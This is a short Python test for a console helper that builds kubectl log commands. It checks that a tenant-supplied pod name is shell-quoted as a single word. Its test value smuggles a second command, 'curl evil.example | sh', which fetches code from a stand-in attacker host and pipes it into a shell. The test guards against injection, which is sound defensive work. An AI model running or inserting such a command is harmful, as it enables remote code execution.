"""Lines of kubectl, which people paste into a shell."""

from sympozium_console.pages.run_commands import command


def test_the_name_of_a_pod_is_one_word_whatever_a_tenant_has_written() -> None:
    line = command("log", namespace="default", name="r", pod="p; curl evil.example | sh")
    assert line == "kubectl -n default logs 'p; curl evil.example | sh' -c agent"
